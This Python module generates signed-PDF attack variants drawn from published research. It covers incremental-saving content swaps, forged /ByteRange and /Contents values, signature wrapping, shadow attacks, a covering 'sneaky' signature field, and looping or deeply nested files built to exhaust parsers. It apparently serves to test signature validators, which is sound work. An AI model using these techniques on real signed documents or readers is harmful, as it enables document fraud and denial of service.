"""Attacks on signed PDFs, the public families, made from an honest file of ours.

Incremental saving, signature wrapping and universal signature forgery: Mladenov et al., "1 Trillion
Dollar Refund", CCS 2019. Shadow attacks: Mainka et al., NDSS 2021. Sneaky signatures: Rohlmann et
al., S&P 2021.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")
_CONTENTS = re.compile(rb"/Contents <([0-9a-fA-F]+)>")


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _overlay(writer: IncrementalPdfFileWriter) -> None:
    stream = generic.StreamObject(stream_data=b"1 g 0 0 600 800 re f")
    writer.add_stream_to_page(0, writer.add_object(stream))


def _swap_content(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page[pdf_name("/Contents")] = writer.add_object(
        generic.StreamObject(stream_data=b"0 0 9 9 re f")
    )
    writer.mark_update(writer.root["/Pages"]["/Kids"].raw_get(0))


def _free_text(writer: IncrementalPdfFileWriter) -> None:
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(
                [generic.NumberObject(value) for value in (50, 50, 300, 300)]
            ),
            pdf_name("/Contents"): generic.pdf_string("5.000.000.000"),
        }
    )
    page = _page(writer)
    page[pdf_name("/Annots")] = generic.ArrayObject([*page["/Annots"], writer.add_object(note)])
    writer.mark_update(writer.root["/Pages"]["/Kids"].raw_get(0))


def _new_page_tree(writer: IncrementalPdfFileWriter) -> None:
    page = generic.DictionaryObject(dict(_page(writer)))
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b""))
    tree = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Count"): generic.NumberObject(1),
            pdf_name("/Kids"): generic.ArrayObject([writer.add_object(page)]),
        }
    )
    writer.root[pdf_name("/Pages")] = writer.add_object(tree)
    writer.update_root()


def _unlinked_form(writer: IncrementalPdfFileWriter) -> None:
    writer.root[pdf_name("/AcroForm")] = generic.DictionaryObject(
        {pdf_name("/Fields"): generic.ArrayObject()}
    )
    writer.update_root()


def _raw_append(data: bytes) -> bytes:
    """New bodies of every page's content without any cross-reference: readers that rebuild fall."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.pages[0].obj.Contents.objgen[0]
    body = b"%d 0 obj\n<</Length 12>>stream\n0 0 9 9 re f\nendstream endobj\n" % number
    return data + b"\n" + body + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def incremental() -> dict[str, Attack]:
    """Incremental saving attacks: an honest update structure with dishonest content."""
    changes = (_overlay, _swap_content, _free_text, _new_page_tree, _unlinked_form)
    named: dict[str, Attack] = {
        change.__name__.strip("_"): lambda data, change=change: _update(data, change)  # type: ignore[misc]
        for change in changes
    }
    return {**named, "raw_append": _raw_append}


def _replaced(pattern: re.Pattern[bytes], by: bytes, data: bytes) -> bytes:
    found = pattern.search(data)
    assert found is not None
    return data[: found.start()] + by.ljust(found.end() - found.start()) + data[found.end() :]


def forgery() -> dict[str, Attack]:
    """Universal signature forgery: what tells range or contents is missing or junk."""
    ranges = {
        "none": b"",
        "null": b"/ByteRange null",
        "text": b"/ByteRange (all)",
        "empty": b"/ByteRange []",
        "zeros": b"/ByteRange [0 0 0 0]",
        "negative": b"/ByteRange [0 -1 -1 0]",
        "short": b"/ByteRange [0 10]",
        "first_only": b"/ByteRange [0 100 100 0]",
        "huge": b"/ByteRange [0 9999999999 9999999999 9999999999]",
        "reals": b"/ByteRange [0.5 1.5 2.5 3.5]",
        "nested": b"/ByteRange [[0 1] 2 3 4]",
    }
    contents = {
        "none": b"",
        "null": b"/Contents null",
        "empty": b"/Contents <>",
        "zero": b"/Contents <00>",
        "junk": b"/Contents <3080>",
        "name": b"/Contents /Valid",
    }
    return {
        **{
            f"range_{name}": lambda data, by=by: _replaced(_RANGE, by, data)  # type: ignore[misc]
            for name, by in ranges.items()
        },
        **{
            f"contents_{name}": lambda data, by=by: _replaced(_CONTENTS, by, data)  # type: ignore[misc]
            for name, by in contents.items()
        },
    }


def _wrapped(data: bytes, *, is_second_range: bool) -> bytes:
    """Move the second signed part behind inserted objects and tell the new range a second time."""
    signed = _RANGE.search(data)
    assert signed is not None
    first_end, second, length = (int(x) for x in re.findall(rb"\d+", signed.group())[1:4])
    contents = data[first_end : second - 1]
    padded = contents.rstrip(b"0")
    evil = b"> /Evil 1 0 R >>\nendobj\n9999 0 obj\n<</Type/Evil>>\nendobj\n"
    moved = second + len(evil) + 4096
    again = b"> /ByteRange [0 %d %d %d]" % (first_end, moved, length) if is_second_range else b""
    gap = padded + again + evil
    head = data[:first_end] + gap.ljust(moved - first_end)
    return head + data[second : second + length] + data[second + length :]


def wrapping() -> dict[str, Attack]:
    """Signature wrapping: the signed bytes are there, at another place."""
    return {
        "second_range": lambda data: _wrapped(data, is_second_range=True),
        "moved": lambda data: _wrapped(data, is_second_range=False),
        "prefixed": lambda data: b"%PDF-1.7\n1 0 obj <</Evil true>> endobj\n" + data,
    }


def prepared(source: bytes) -> bytes:
    """Return a PDF made for a shadow attack, to be signed by an honest signer.

    A text field covers the amount with a harmless value, a picture object hides a line, and a
    second catalogue with other pages lies unused in the file.
    """
    with pikepdf.open(io.BytesIO(source)) as pdf:
        page = pdf.pages[0]
        appearance = pdf.make_stream(
            b"1 g 0 0 200 40 re f", Dictionary(Subtype=Name.Form, BBox=Array([0, 0, 200, 40]))
        )
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("amount"),
                V=String("1.000"),
                F=4,
                Rect=Array([60, 400, 260, 440]),
                AP=Dictionary(N=appearance),
            )
        )
        page.obj.Annots = Array([field])
        hiding = pdf.make_stream(
            b"1 g 0 0 300 90 re f", Dictionary(Subtype=Name.Form, BBox=Array([0, 0, 300, 90]))
        )
        page.add_resource(hiding, Name.XObject, Name.Hide)
        page.contents_add(b"q 1 0 0 1 40 500 cm /Hide Do Q")
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
        other = Dictionary(Type=Name.Page, MediaBox=page.mediabox, Contents=pdf.make_stream(b""))
        pages = Dictionary(Type=Name.Pages, Count=1, Kids=Array([pdf.make_indirect(other)]))
        pdf.Root.PieceInfo = Dictionary(Shadow=pdf.make_indirect(pages))
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _hide(writer: IncrementalPdfFileWriter) -> None:
    resources = _page(writer)["/Resources"]["/XObject"]
    resources[pdf_name("/Hide")] = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            },
            stream_data=b"",
        )
    )
    writer.update_container(resources)


def _replace(writer: IncrementalPdfFileWriter) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field[pdf_name("/V")] = generic.pdf_string("9.000.000")
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {
            pdf_name("/N"): writer.add_object(
                generic.StreamObject(
                    {
                        pdf_name("/Subtype"): pdf_name("/Form"),
                        pdf_name("/BBox"): generic.ArrayObject(
                            [generic.NumberObject(value) for value in (0, 0, 200, 40)]
                        ),
                    },
                    stream_data=b"0 g 0 0 200 40 re f",
                )
            )
        }
    )
    writer.update_container(field)


def _hide_and_replace(writer: IncrementalPdfFileWriter) -> None:
    writer.root[pdf_name("/Pages")] = writer.root["/PieceInfo"].raw_get("/Shadow")
    writer.update_root()


def _empty_signature_field(writer: IncrementalPdfFileWriter) -> None:
    """Sneaky: a further signature field, unsigned, whose appearance covers the page."""
    look = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(value) for value in (0, 0, 600, 800)]
                ),
            },
            stream_data=b"1 g 0 0 600 800 re f",
        )
    )
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): generic.pdf_string("Sneaky"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject(
                [generic.NumberObject(value) for value in (0, 0, 600, 800)]
            ),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): look}),
        }
    )
    reference = writer.add_object(field)
    page, form = _page(writer), writer.root["/AcroForm"]
    page["/Annots"].append(reference)
    writer.update_container(page["/Annots"])
    form["/Fields"].append(reference)
    writer.update_container(form["/Fields"])


def shadow() -> dict[str, Attack]:
    """Shadow attacks on a file from `prepared` that was signed, and the sneaky field."""
    changes = (_hide, _replace, _hide_and_replace, _empty_signature_field)
    return {
        change.__name__.strip("_"): lambda data, change=change: _update(data, change)  # type: ignore[misc]
        for change in changes
    }


def hostile() -> dict[str, bytes]:
    """Files that loop, nest and repeat, for parsers that trust."""
    loop = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>endobj\n"
        b"3 0 obj<</FT/Sig/T(a)/Kids[3 0 R]/Parent 3 0 R/V 4 0 R>>endobj\n"
        b"4 0 obj<</Type/Sig/V 4 0 R/Contents 4 0 R/ByteRange 4 0 R>>endobj\n"
        b"trailer<</Root 1 0 R/Size 5>>\n%%EOF"
    )
    deep = b"%PDF-1.7\n1 0 obj" + b"[" * 200_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    fields = b" ".join(b"3 0 R" for _ in range(200_000))
    many = loop.replace(b"[3 0 R]>>", b"[" + fields + b"]>>")
    prev = loop + b"\nstartxref\n0\n%%EOF"
    huge = loop.replace(b"/Contents 4 0 R", b"/Contents <" + b"30" * 8_000_000 + b">")
    return {"loop": loop, "deep": deep, "many": many, "prev": prev, "huge": huge}
